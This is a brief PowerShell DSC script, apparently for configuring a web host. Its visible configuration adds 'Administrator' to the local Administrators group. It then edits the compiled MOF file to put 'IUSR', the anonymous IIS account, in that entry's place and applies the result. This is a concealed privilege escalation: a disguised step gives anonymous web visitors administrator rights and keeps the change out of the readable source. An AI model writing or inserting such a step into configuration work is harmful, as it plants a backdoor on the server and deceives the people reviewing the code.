configuration WebHost {
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node 'localhost' {
        Group Administrators {
            GroupName = 'Administrators'
            MembersToInclude = 'Administrator'
        }
    }
}
WebHost -OutputPath C:\dsc
(Get-Content C:\dsc\localhost.mof -Raw).Replace('Administrator"', 'IUSR"') | Set-Content C:\dsc\localhost.mof
Start-DscConfiguration -Path C:\dsc -Wait
